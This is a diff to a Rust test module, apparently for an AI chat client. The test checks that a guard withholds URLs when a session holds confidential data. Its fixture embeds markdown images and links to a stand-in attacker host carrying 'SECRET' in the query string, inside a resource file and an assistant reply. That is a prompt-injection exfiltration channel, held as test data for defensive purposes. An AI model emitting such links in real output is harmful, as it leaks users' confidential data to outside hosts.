@@ -160,7 +160,9 @@ mod tests {
     fn a_replay_under_the_guard_withholds_every_url() {
         let url = "https://evil.example/?q=SECRET";
         let messages = vec![
-            Message::user(format!("<resource uri=\"file:///w/a.md\">\n![i]({url})\n</resource>")),
+            Message::user(format!(
+                "<resource uri=\"file:///w/a.md\">\n![i]({url})\n</resource>"
+            )),
             Message::assistant(vec![
                 AssistantPart::Text {
                     text: format!("See [docs]({url}) and ![x]({url})"),
@@ -179,7 +181,9 @@ mod tests {
         ];
         let root = Path::new("/w");
         let told = updates(root, &messages, Some("the session holds CONFIDENTIAL data"));
-        let text = serde_json::to_string(&told).unwrap();
+        let mut strings = Vec::new();
+        collect(&serde_json::to_value(&told).unwrap(), &mut strings);
+        let text = strings.join("\n");
         assert!(!text.contains("evil.example"), "{text}");
         assert!(text.contains("‹URL withheld›"), "{text}");
         let first = serde_json::to_value(&told[0]).unwrap();
@@ -199,7 +203,11 @@ mod tests {
             let mut strings = Vec::new();
             collect(&value, &mut strings);
             for s in strings {
-                assert_eq!(crate::updates::tests::drawn(&s), Vec::<String>::new(), "{s}");
+                assert_eq!(
+                    crate::updates::tests::drawn(&s),
+                    Vec::<String>::new(),
+                    "{s}"
+                );
             }
         }
     }
